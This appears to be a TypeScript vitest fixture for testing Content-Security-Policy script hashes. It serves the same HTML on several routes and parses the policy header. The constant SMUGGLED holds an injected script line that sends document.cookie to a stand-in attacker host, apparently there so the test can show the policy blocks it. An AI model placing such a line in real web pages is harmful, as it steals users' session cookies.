import { createHash } from 'node:crypto';
import { expect } from 'vitest';
import { createSite } from './page-server';

export const KNOWN = "addEventListener('click', () => {})";
export const SMUGGLED = 'fetch("https://site.evil/" + document.cookie)';
const HTML = `<!doctype html><script>${KNOWN}</script><script>${SMUGGLED}</script>`;
const FILES = { '/': HTML, '/track/1/slow': HTML, '/track/1/slow/embed': HTML, '/404': HTML, '/500': HTML };

export const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

/** Site with the same HTML on every page, prerendered or rendered. */
export const createPages = (options: Parameters<typeof createSite>[1] = {}) =>
  createSite(FILES, {
    scripts: [KNOWN],
    render: async (request) =>
      new URL(request.url).pathname.startsWith('/broken')
        ? Promise.reject(new Error('broken'))
        : new Response(HTML, { headers: { 'Content-Type': 'text/html' } }),
    ...options,
  });

/** Sources by directive. Expects no duplicates, because browsers ignore a second directive of a name. */
export const policyOf = ({ headers }: Response): Record<string, string> => {
  const directives = (headers.get('Content-Security-Policy') ?? '').split(/\s*;\s*/).map((text) => text.split(/ (.*)/, 2));
  expect(new Set(directives.map(([name]) => name)).size).toBe(directives.length);
  return Object.fromEntries(directives);
};
